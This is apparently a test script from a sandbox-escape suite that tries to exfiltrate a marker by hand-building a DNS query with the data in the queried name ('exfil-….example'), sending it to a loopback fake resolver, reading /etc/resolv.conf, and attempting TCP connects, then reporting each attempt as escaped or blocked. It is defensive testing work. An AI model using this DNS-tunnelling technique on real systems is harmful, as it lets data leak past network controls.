# Tries: exfiltrate through DNS: a real DNS query, carrying data in the name,
# to a resolver on the host's loopback (the runner's fake DNS server), plus
# name resolution through the system resolver. Stops it: no route out of the
# sandbox's network namespace; socket-family filter.
import socket
import struct
import escape_lib as L

L.start()
name = f"exfil-{L.T['MARKER']}.example"
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(q, ("127.0.0.1", int(L.T["DNS_PORT"])))
    try:
        s.recvfrom(512)
        L.escaped("dns query", "got an answer")
    except OSError:
        L.say("query sent, no answer (host listener must not get it)")
except OSError as e:
    L.blocked("dns socket", L.ename(e))
try:
    with open("/etc/resolv.conf") as f:
        servers = [l.split()[1] for l in f if l.startswith("nameserver")]
    L.say(f"resolv.conf nameservers: {servers} (not contacted: loopback only in tests)")
except OSError as e:
    L.say(f"no resolv.conf: {L.ename(e)}")
try:
    # loopback name only: the test never targets another address
    addrs = socket.getaddrinfo("localhost", int(L.T["TCP_PORT"]), proto=socket.IPPROTO_TCP)
    for fam, typ, proto, _, sa in addrs:
        try:
            c = socket.socket(fam, typ, proto)
            c.settimeout(1)
            c.connect(sa)
            L.escaped(f"connect to resolved {sa}", "connected")
        except OSError as e:
            L.blocked(f"connect to resolved {sa}", L.ename(e) if e.errno else str(e))
except OSError as e:
    L.blocked("getaddrinfo(localhost)", str(e))
